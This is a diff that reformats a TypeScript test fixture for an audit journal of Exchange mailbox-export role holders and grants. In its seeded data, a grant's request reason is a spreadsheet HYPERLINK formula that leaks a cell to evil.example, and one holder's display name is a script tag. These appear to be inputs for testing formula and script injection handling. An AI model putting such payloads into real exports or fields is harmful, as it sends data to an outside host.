@@ -96,10 +96,18 @@ export const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for 
  * A morning of history: two forgotten holders found, a grant requested (with a formula-injection
  * justification), approved and activated, an unapproved holder revoked, a scope change, then expiry.
  */
-export async function seedHistory(store: OpenedStore): Promise<{ alex: Holder; lynne: Holder; adele: Holder; grant: Grant }> {
+export async function seedHistory(
+  store: OpenedStore,
+): Promise<{ alex: Holder; lynne: Holder; adele: Holder; grant: Grant }> {
   const alex = holder('alexw@contoso.onmicrosoft.com', 'Mailbox Import Export-AlexW');
-  const lynne = holder('lynner@contoso.onmicrosoft.com', 'Mailbox Import Export-PST Migration Operators', { via: 'role-group', viaName: 'PST Migration Operators', path: 'via role group PST Migration Operators' });
-  const adele = holder('adelev@contoso.onmicrosoft.com', 'MIE-grant-g-1', { displayName: '<script>alert("Adele")</script>' });
+  const lynne = holder('lynner@contoso.onmicrosoft.com', 'Mailbox Import Export-PST Migration Operators', {
+    via: 'role-group',
+    viaName: 'PST Migration Operators',
+    path: 'via role group PST Migration Operators',
+  });
+  const adele = holder('adelev@contoso.onmicrosoft.com', 'MIE-grant-g-1', {
+    displayName: '<script>alert("Adele")</script>',
+  });
   const grant: Grant = {
     id: 'g-1',
     principal: adele.principal,
@@ -121,19 +129,66 @@ export async function seedHistory(store: OpenedStore): Promise<{ alex: Holder; l
     endedBy: 'watchdog',
     endReason: 'expired',
   };
-  const finding: Finding = { id: 'unapproved|alexw', kind: 'unapproved', principal: alex.principal, severity: 'high', summary: 'AlexW holds MIE without a grant', assignmentGuid: alex.assignmentGuid, holderKey: alex.key };
+  const finding: Finding = {
+    id: 'unapproved|alexw',
+    kind: 'unapproved',
+    principal: alex.principal,
+    severity: 'high',
+    summary: 'AlexW holds MIE without a grant',
+    assignmentGuid: alex.assignmentGuid,
+    holderKey: alex.key,
+  };
   const events: JournalEntryInput[] = [
     { at: T('08:00'), type: 'holder.added', actor: 'watchdog', subject: alex.key, data: { holder: alex } },
     { at: T('08:00'), type: 'holder.added', actor: 'watchdog', subject: lynne.key, data: { holder: lynne } },
-    { at: T('09:00'), type: 'grant.requested', actor: grant.requestedBy, subject: 'g-1', reason: INJECTION, data: { grant: { ...grant, status: 'pending' } } },
-    { at: T('09:05'), type: 'grant.approved', actor: 'lidiah@contoso.onmicrosoft.com', subject: 'g-1', data: { grant: { ...grant, status: 'approved' } } },
-    { at: T('09:10'), type: 'grant.activated', actor: 'watchdog', subject: 'g-1', data: { grant: { ...grant, status: 'active' } } },
+    {
+      at: T('09:00'),
+      type: 'grant.requested',
+      actor: grant.requestedBy,
+      subject: 'g-1',
+      reason: INJECTION,
+      data: { grant: { ...grant, status: 'pending' } },
+    },
+    {
+      at: T('09:05'),
+      type: 'grant.approved',
+      actor: 'lidiah@contoso.onmicrosoft.com',
+      subject: 'g-1',
+      data: { grant: { ...grant, status: 'approved' } },
+    },
+    {
+      at: T('09:10'),
+      type: 'grant.activated',
+      actor: 'watchdog',
+      subject: 'g-1',
+      data: { grant: { ...grant, status: 'active' } },
+    },
     { at: T('09:15'), type: 'holder.added', actor: 'watchdog', subject: adele.key, data: { holder: adele } },
     { at: T('10:00'), type: 'finding.opened', actor: 'watchdog', subject: finding.id, data: { finding } },
-    { at: T('11:00'), type: 'holder.changed', actor: 'watchdog', subject: lynne.key, data: { holder: { ...lynne, scope: 'Sales OU' }, previous: lynne } },
-    { at: T('12:00'), type: 'assignment.removed', actor: 'pattif@contoso.onmicrosoft.com', subject: alex.assignmentGuid, reason: 'no grant, removed by the security team', data: { holder: alex } },
+    {
+      at: T('11:00'),
+      type: 'holder.changed',
+      actor: 'watchdog',
+      subject: lynne.key,
+      data: { holder: { ...lynne, scope: 'Sales OU' }, previous: lynne },
+    },
+    {
+      at: T('12:00'),
+      type: 'assignment.removed',
+      actor: 'pattif@contoso.onmicrosoft.com',
+      subject: alex.assignmentGuid,
+      reason: 'no grant, removed by the security team',
+      data: { holder: alex },
+    },
     { at: T('12:15'), type: 'holder.removed', actor: 'watchdog', subject: alex.key, data: { holder: alex } },
-    { at: T('12:15'), type: 'finding.resolved', actor: 'watchdog', subject: finding.id, reason: 'holder gone', data: { finding } },
+    {
+      at: T('12:15'),
+      type: 'finding.resolved',
+      actor: 'watchdog',
+      subject: finding.id,
+      reason: 'holder gone',
+      data: { finding },
+    },
     { at: T('13:00'), type: 'grant.revoked', actor: 'watchdog', subject: 'g-1', data: { grant } },
     { at: T('13:05'), type: 'holder.removed', actor: 'watchdog', subject: adele.key, data: { holder: adele } },
   ];
